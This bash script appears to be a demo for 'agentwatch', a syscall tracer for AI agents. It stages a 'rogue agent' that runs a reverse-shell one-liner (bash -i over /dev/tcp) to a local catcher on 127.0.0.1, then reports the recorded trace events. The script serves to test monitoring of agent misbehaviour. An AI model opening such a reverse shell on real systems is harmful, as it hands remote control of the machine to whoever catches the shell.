#!/usr/bin/env bash
# make demo: an agent opens a reverse shell to a catcher on 127.0.0.1, under agentwatch.
set -euo pipefail
cd "$(dirname "$0")/.."
AW=.build/release/agentwatch
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

/usr/bin/python3 Fixtures/rogue/catcher.py "$work/port" "$work/received" "id; exit
" 10 &
catcher=$!
for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.05; done
port=$(cat "$work/port")

echo "== a rogue agent runs: bash -c 'bash -i >& /dev/tcp/127.0.0.1/$port 0>&1'"
echo "== agentwatch run --trace demo.jsonl --print --syscalls connect,dup2,dup3,execve -- ..."
set +e
"$AW" run --trace "$work/demo.jsonl" --print --syscalls connect,dup2,dup3,execve,socket \
    -- bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>&1 | grep -v 'mmap\|mprotect'
status=${PIPESTATUS[0]}
set -e
wait "$catcher" || true
echo
echo "== agentwatch exit status: $status"
echo "== events recorded in the trace: $(($(wc -l < "$work/demo.jsonl") - 1))"
echo "== bytes the catcher on 127.0.0.1:$port received from the agent: $(wc -c < "$work/received")"
